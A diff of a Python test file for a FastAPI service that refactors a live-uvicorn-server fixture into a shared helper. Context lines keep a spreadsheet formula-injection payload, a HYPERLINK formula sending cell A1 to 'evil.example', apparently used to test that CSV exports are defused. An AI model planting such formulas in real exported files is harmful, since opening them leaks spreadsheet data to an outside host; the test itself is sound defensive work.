@@ -10,9 +10,6 @@ import csv
 import http.client
 import io
 import json
-import socket
-import threading
-import time
 from collections.abc import Iterator
 from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
@@ -20,7 +17,6 @@ from pathlib import Path
 import httpx
 import pytest
 import sqlalchemy as sa
-import uvicorn
 from fastapi.testclient import TestClient
 from sqlmodel import Session, select
 
@@ -35,6 +31,7 @@ from service.store.imports import import_records
 from service.store.tables import ApiToken
 from tests.dbutil import scratch_engine
 from tests.factories import bin_number, vacancy
+from tests.serving import served as served_app
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
@@ -397,12 +394,6 @@ def test_a_token_with_too_many_requests_at_once_gets_429() -> None:
 # -- a 500 is one failure (finding 9) ------------------------------------------------------------
 
 
-def _free_port() -> int:
-    with socket.socket() as probe:
-        probe.bind(("127.0.0.1", 0))
-        return int(probe.getsockname()[1])
-
-
 @pytest.fixture
 def served(tmp_path: Path) -> Iterator[tuple[int, str]]:
     """A real uvicorn server on a database of its own, and an admin token."""
@@ -411,21 +402,8 @@ def served(tmp_path: Path) -> Iterator[tuple[int, str]]:
         rt = Runtime(Settings(home=tmp_path, secret_key="s" * 32, lang="en"), engine, _ready=True)
         with rt.writing() as session:
             secret = tokens.create(session, role="admin")[0]
-        port = _free_port()
-        server = uvicorn.Server(
-            uvicorn.Config(create_app(rt), host="127.0.0.1", port=port, log_level="critical")
-        )
-        thread = threading.Thread(target=server.run, daemon=True)
-        thread.start()
-        deadline = time.monotonic() + 20
-        while not server.started and time.monotonic() < deadline:
-            time.sleep(0.05)
-        assert server.started
-        try:
+        with served_app(rt, log_level="critical") as port:
             yield port, secret
-        finally:
-            server.should_exit = True
-            thread.join(10)
 
 
 def test_a_500_leaves_the_keep_alive_connection_usable(
